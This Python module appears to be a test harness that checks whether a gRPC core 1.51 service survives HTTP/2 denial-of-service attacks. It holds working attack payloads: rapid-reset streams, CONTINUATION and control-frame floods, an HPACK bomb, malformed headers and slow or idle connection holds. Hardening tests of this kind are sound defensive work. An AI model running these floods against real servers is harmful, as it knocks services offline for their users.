# SPDX-License-Identifier: Apache-2.0
"""What brings gRPC core 1.51 down, or could, as connections of a peer that may connect.

An attack is a function of a Peer; it ends within about ATTACK_S and returns whether the service did
what it has to: True, or a text that says what it did not. The letters are those of the list in
docs/threat-model.md."""
import os
import random
import select
import socket
import ssl
import struct
import time

import h2

ATTACK_S = 0.2
CLOSE_S = 30
HEALTH = "/grpc.health.v1.Health/"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
FLOOD = 20000
WATCH = HEALTH + "Watch"
CHECK = HEALTH + "Check"


class Peer:
    """Connects to one service as one peer; `own` is a unary method of the service itself."""

    def __init__(self, target, own, source=None, token=None, tls=None):
        self.target, self.own, self.source, self.tls = target, own, source, tls
        self.more = [("authorization", "Bearer " + token)] if token else []
        self.until = time.monotonic() + ATTACK_S

    def open(self, opening=h2.OPENING):
        """None when it is refused, which a cap or a rate may do at any time."""
        is_unix = isinstance(self.target, str)
        sock = socket.socket(socket.AF_UNIX if is_unix else socket.AF_INET)
        try:
            sock.settimeout(2)
            if self.source:
                sock.bind((self.source, 0))
            sock.connect(self.target)
            if self.tls:  # an ssl.SSLContext: the attack is what is inside
                sock = self.tls.wrap_socket(sock)
            sock.sendall(opening)
        except OSError:
            sock.close()
            return None
        return sock

    def request(self, stream, path, flags=0):
        return h2.request(stream, path, *self.more, flags=flags)

    def call(self, stream, path, payload=b""):
        return self.request(stream, path) + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message(payload))

    def send(self, sock, data, pause=0.0, piece=65536):
        """Sends until the time is up or the other side has closed; True when it has."""
        view = memoryview(data)
        try:
            while view and time.monotonic() < self.until:
                sock.settimeout(max(0.01, self.until - time.monotonic()))
                view = view[sock.send(view[:piece]):]
                if pause:
                    time.sleep(pause)
        except socket.timeout:
            return False
        except OSError:
            return True
        return False


def is_closed(sock, seconds=CLOSE_S):
    """Reads to the end; False when there is none in time."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            if not sock.recv(1 << 20):
                return True
        except socket.timeout:
            return False
        except OSError:
            return True
    return False


def must_close(peer, data, connections=1, opening=h2.OPENING):
    """Each connection that sends `data` has to be closed for it; all send at the same time."""
    left = {sock: memoryview(data) for sock in (peer.open(opening) for _ in range(connections)) if sock}
    deadline = time.monotonic() + CLOSE_S
    for sock in left:
        sock.setblocking(False)
    while left and time.monotonic() < deadline:
        readable, writable, _ = select.select(left, [sock for sock in left if left[sock]], [], 1)
        for sock in {*readable, *writable}:
            try:
                if sock in readable and not sock.recv(1 << 20):
                    del left[sock]
                elif sock in writable:
                    left[sock] = left[sock][sock.send(left[sock][:65536]):]
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                del left[sock]
    return not left or f"{len(left)} of {connections} connections were not closed"


def may_do(peer, data, opening=h2.OPENING, reads=True):
    """Whatever becomes of it."""
    sock = peer.open(opening)
    if sock:
        peer.send(sock, data)
        if reads:
            is_closed(sock, 0.05)
        sock.close()
    return True


# ---- a: streams that are reset ----

def a1_rapid_reset(peer, connections=1):
    return must_close(peer, b"".join(peer.request(1 + 2 * i, peer.own) + h2.frame(h2.RESET, 0, 1 + 2 * i, h2.CANCEL)
                                     for i in range(FLOOD // 4)), connections)


def a2_rapid_reset_by_four(peer):
    return a1_rapid_reset(peer, 4)


def a3_rapid_reset_of_whole_calls(peer):
    return must_close(peer, b"".join(peer.call(1 + 2 * i, peer.own) + h2.frame(h2.RESET, 0, 1 + 2 * i, h2.CANCEL)
                                     for i in range(FLOOD // 4)), 8)


def a4_reset_and_reconnect(peer):
    data = b"".join(peer.request(1 + 2 * i, peer.own) + h2.frame(h2.RESET, 0, 1 + 2 * i, h2.CANCEL) for i in range(95))
    while time.monotonic() < peer.until:
        sock = peer.open()
        if sock:
            peer.send(sock, data)
            sock.close()
    return True


# ---- b: header blocks ----

def _continued(peer, part, count, first=b"\0\1a\1b", connections=1):
    return must_close(peer, h2.frame(h2.HEADERS, 0, 1, first) + h2.frame(h2.CONTINUATION, 0, 1, part) * count, connections)


def b1_empty_continuation(peer):
    return _continued(peer, b"", FLOOD)


def b2_continuation_of_one_byte(peer):
    return _continued(peer, b"x", FLOOD, b"\0\1a\x7f\xff\xff\xff\x07")


def b3_many_small_headers(peer):
    return _continued(peer, h2.field("a", "b") * 3000, 100)


def b4_endless_value(peer, connections=1):
    return _continued(peer, b"x" * 512, FLOOD // 2, b"\0\1a\x7f\xff\xff\xff\x07", connections)


def b5_endless_value_by_four(peer):
    return b4_endless_value(peer, 4)


# ---- c: control frames ----

def c1_settings(peer):
    return must_close(peer, h2.settings((4, 65535)) * FLOOD)


def c2_settings_unread(peer):
    return may_do(peer, h2.settings((4, 65535)) * FLOOD, reads=False)


def c3_window_toggled(peer):
    opened = b"".join(peer.request(1 + 2 * i, WATCH) for i in range(60))
    return must_close(peer, opened + (h2.settings((4, 0)) + h2.settings((4, 2**31 - 1))) * (FLOOD // 2))


def c4_table_size_toggled(peer):
    return must_close(peer, (h2.settings((1, 0)) + h2.settings((1, 4096))) * (FLOOD // 2))


def c5_ping(peer):
    return must_close(peer, h2.frame(h2.PING, 0, 0, b"12345678") * FLOOD)


def c6_ping_unread(peer):
    return may_do(peer, h2.frame(h2.PING, 0, 0, b"12345678") * FLOOD, reads=False)


def c7_ping_answers_nobody_asked_for(peer):
    return must_close(peer, h2.frame(h2.PING, h2.ACK, 0, b"12345678") * FLOOD)


def c8_window_updates(peer):
    one = struct.pack(">I", 1)
    return must_close(peer, peer.request(1, WATCH) + (
        h2.frame(h2.WINDOW, 0, 0, one) + h2.frame(h2.WINDOW, 0, 1, one)) * FLOOD)


def c9_window_overflow_and_zero(peer):
    most, zero = struct.pack(">I", 2**31 - 1), struct.pack(">I", 0)
    may_do(peer, h2.frame(h2.WINDOW, 0, 0, most) * 3000)
    return may_do(peer, h2.frame(h2.WINDOW, 0, 0, zero) * 3000)


def c10_priority(peer):
    return must_close(peer, h2.frame(h2.PRIORITY, 0, 1, b"\0\0\0\3\1") * FLOOD)


def c11_unknown_frames(peer):
    return must_close(peer, h2.frame(200, 0, 0, b"?" * 100) * FLOOD)


def c12_goaway(peer):
    return must_close(peer, h2.frame(h2.GOAWAY, 0, 0, bytes(8)) * FLOOD)


def c13_reset_of_idle_streams(peer):
    return must_close(peer, h2.frame(h2.RESET, 0, 1, h2.CANCEL) * FLOOD)


# ---- d: data ----

def d1_empty_data(peer):
    return must_close(peer, peer.request(1, REFLECTION) + h2.frame(h2.DATA, 0, 1) * FLOOD)


def d2_data_of_one_byte(peer):
    return must_close(peer, peer.request(1, REFLECTION) + h2.frame(h2.DATA, 0, 1, b"\0") * FLOOD)


def d3_data_on_a_reset_stream(peer):
    return may_do(peer, peer.request(1, WATCH) + h2.frame(h2.RESET, 0, 1, h2.CANCEL) +
                  h2.frame(h2.DATA, 0, 1, b"x" * 64) * FLOOD)


def d4_empty_messages(peer):
    """A million of them on one call with a stream of requests."""
    return may_do(peer, peer.request(1, REFLECTION) + h2.frame(h2.DATA, 0, 1, h2.message() * 3000) * 340)


def d5_claim_of_4_gib(peer):
    return may_do(peer, peer.request(1, peer.own) + h2.frame(h2.DATA, 0, 1, h2.message(size=2**32 - 1)) +
                  h2.frame(h2.DATA, 0, 1, bytes(16384)) * 6000)


def d6_messages_that_never_end(peer):
    """Sixty calls with messages just below the largest, in turns; windows are not waited for."""
    opened = b"".join(peer.request(1 + 2 * i, peer.own) + h2.frame(
        h2.DATA, 0, 1 + 2 * i, h2.message(size=(4 << 20) - 1)) for i in range(60))
    return may_do(peer, opened + b"".join(h2.frame(h2.DATA, 0, 1 + 2 * i, bytes(16000)) for i in range(60)) * 60)


def d7_bad_messages(peer):
    for body in (b"", b"\0", h2.message(flag=1), h2.message(b"x", flag=1), h2.message(flag=2), h2.message(flag=255),
                 h2.message(size=1), h2.message(b"\xff" * 100), h2.message(b"\x0a\x7f"), h2.message() * 2,
                 h2.message() + b"rest", h2.message(b"\x0b" * 1000), b"\xff" * 500, h2.message(b"\x08" + b"\x80" * 20)):
        may_do(peer, peer.request(1, peer.own) + h2.frame(h2.DATA, h2.END_STREAM, 1, body))
        peer.until = time.monotonic() + ATTACK_S
    return True


# ---- e: windows and readers ----

def e1_zero_window(peer):
    return may_do(peer, b"".join(peer.request(1 + 2 * i, WATCH, 0) + h2.frame(
        h2.DATA, h2.END_STREAM, 1 + 2 * i, h2.message()) for i in range(200)), h2.PREFACE + h2.settings((4, 0)))


def e2_never_reading(peer):
    return may_do(peer, b"".join(peer.call(1 + 2 * i, REFLECTION, b"\x3a\0") for i in range(200)), reads=False)


def e3_windows_of_one_byte(peer):
    one = struct.pack(">I", 1)
    return may_do(peer, peer.call(1, REFLECTION, b"\x3a\0") + h2.frame(h2.WINDOW, 0, 1, one) * 3000,
                  h2.PREFACE + h2.settings((4, 0)))


# ---- f: headers that are large or wrong ----

def f1_header_of_a_megabyte(peer):
    return must_close(peer, h2.block(1, h2.fields(CHECK, ("big", "x" * (1 << 20)))))


def f2_hpack_bomb(peer):
    put = b"\x40" + h2.text("x") + h2.text("y" * 3900)
    return may_do(peer, h2.block(1, h2.fields(CHECK) + put + b"\xbe" * 3000) +
                  h2.block(3, h2.fields(CHECK) + b"\xbe" * 16000))


def f3_three_thousand_headers(peer):
    return may_do(peer, h2.block(1, h2.fields(CHECK, *[(f"h{i}", "v") for i in range(3000)])))


def f4_bad_requests(peer):
    bad = [h2.block(1, h2.fields(path)) for path in ("", "/", "//", "x", "/a/b/c", "/" * 5000, b"/\xff\xfe/\0")]
    bad += [h2.block(1, h2.fields(CHECK, *pair)) for pair in (
        [("grpc-timeout", "junk")], [("grpc-timeout", "-1S")], [("grpc-timeout", "9" * 17 + "S")],
        [("connection", "close")], [("Upper", "Case")], [(":path", "/twice")], [("a", "b\nc")])]
    bad += [h2.block(1, h2.fields(CHECK, content_type=kind)) for kind in ("text/html", "application/grpc-web", "")]
    bad += [h2.block(1, b"\x80"), h2.block(1, b"\xff" * 20), h2.block(1, b"\0\x8a" + b"\xff" * 10), h2.block(2, b""),
            h2.frame(h2.HEADERS, 4, 0), h2.frame(h2.DATA, 0, 0, b"x"), h2.frame(h2.PUSH, 4, 1, bytes(4)),
            h2.frame(h2.SETTINGS, 0, 0, b"x"), h2.frame(h2.CONTINUATION, 4, 1), h2.frame(h2.PING, 0, 0, b"x"),
            h2.frame(h2.DATA, 8, 1, b"\xff"), h2.frame(h2.HEADERS, 0x28, 1, b"\xff")]
    for data in bad:
        may_do(peer, data + peer.call(3, CHECK))
        peer.until = time.monotonic() + ATTACK_S
    return True


def f5_other_protocols(peer):
    for opening in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + bytes(500),
                    os.urandom(4096), bytes(4096), h2.PREFACE + os.urandom(4096), h2.PREFACE[:-1] + b"x"):
        if must_close(peer, b"", opening=opening) is not True:
            return f"not closed: {opening[:8]!r}"
    return True


# ---- g: streams ----

def g1_streams_without_end(peer):
    return must_close(peer, h2.frame(h2.SETTINGS, h2.ACK) + b"".join(
        peer.request(1 + 2 * i, WATCH) for i in range(2000)))


def g2_streams_without_acknowledged_settings(peer):
    data = b"".join(peer.call(1 + 2 * i, WATCH) for i in range(2000))
    return must_close(peer, data)


# ---- h: connections ----

def _hold(peer, count, opening, slow=b"", seconds=0.25):
    """Opens many, sends `slow` byte by byte on each."""
    socks = [sock for sock in (peer.open(opening) for _ in range(count)) if sock]
    until = time.monotonic() + seconds
    for at in range(len(slow)):
        if time.monotonic() >= until:
            break
        for sock in socks:
            try:
                sock.send(slow[at:at + 1])
            except OSError:
                pass
        time.sleep(0.05)
    time.sleep(max(0.0, until - time.monotonic()))
    return socks


def _close(socks):
    for sock in socks:
        sock.close()
    return True


def h1_silent(peer):
    return _close(_hold(peer, 600, b""))


def h2_preface_alone(peer):
    return _close(_hold(peer, 600, h2.PREFACE))


def h3_idle(peer):
    return _close(_hold(peer, 600, h2.OPENING))


def h4_open_calls(peer):
    return _close(_hold(peer, 300, h2.OPENING + peer.request(1, WATCH)))


def h5_slow(peer):
    """A byte now and then: preface, header of a frame, header block. All must be gone at their deadline."""
    openings = (b"", h2.OPENING, h2.OPENING + h2.frame(h2.HEADERS, 0, 1, b"x"))
    groups = [_hold(peer, 10, opening, seconds=0) for opening in openings]
    drips = (h2.PREFACE, h2.frame(h2.PING, 0, 0, bytes(8)), h2.frame(h2.CONTINUATION, 0, 1, bytes(50)))
    deadline = time.monotonic() + CLOSE_S
    open_socks = [(sock, drip) for socks, drip in zip(groups, drips) for sock in socks]
    for at in range(CLOSE_S * 5):
        left = []
        for sock, drip in open_socks:
            try:
                sock.send(drip[at:at + 1])
                sock.setblocking(False)
                while sock.recv(65536):
                    pass
                sock.close()
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                left.append((sock, drip))
            except OSError:
                sock.close()
        open_socks = left
        if not left or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    return not open_socks or f"{len(open_socks)} slow connections are still open"


def h6_killed_anywhere(peer):
    """Clients that vanish at any byte of a call."""
    whole = h2.OPENING + peer.call(1, CHECK) + peer.call(3, WATCH) + peer.call(5, peer.own)
    rng = random.Random(7)
    while time.monotonic() < peer.until:
        sock = peer.open(whole[:rng.randrange(len(whole))])
        if sock:
            if rng.random() < 0.5:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.close()
    return True


def count_served(peer, count, most):
    """How many of `count` idle connections the service keeps open, once that is at most `most`; it may take its time."""
    left = _hold(peer, count, h2.OPENING, seconds=0)
    deadline = time.monotonic() + CLOSE_S
    while len(left) > most and time.monotonic() < deadline:
        left = [sock for sock in left if not is_closed(sock, 0.001)]
    return len(left)


# ---- no attack ----

def busy_user(peer):
    """256 connections at once, each with a call that is answered, then 200 a second for a second more."""
    def is_answered(sock):
        sock.settimeout(CLOSE_S)
        said = b""
        while h2.frame(h2.HEADERS)[3:4] not in (said[at + 3:at + 4] for at in h2.frames(said)):
            part = sock.recv(65536)
            if not part:
                return False
            said += part
        return True

    held = []
    began = time.monotonic()
    for _ in range(256):
        sock = peer.open(h2.OPENING + peer.call(1, CHECK))
        if not sock or not is_answered(sock):
            return f"connection {len(held)} was refused"
        held.append(sock)
        time.sleep(max(0.0, began + len(held) / 200 - time.monotonic()))
    began, count = time.monotonic(), 0
    while time.monotonic() < began + 1:
        sock = peer.open(h2.OPENING + peer.call(1, CHECK))
        if not sock or not is_answered(sock):
            return f"connection {count} of many was refused"
        sock.close()
        count += 1
        time.sleep(max(0.0, began + count / 200 - time.monotonic()))
    return _close(held)


ATTACKS = [value for name, value in sorted(
    globals().items(), key=lambda item: (item[0][:1], int("".join(filter(str.isdigit, item[0].split("_")[0])) or 0)))
           if name[:1] in "abcdefgh" and name[1:2].isdigit() and callable(value)]
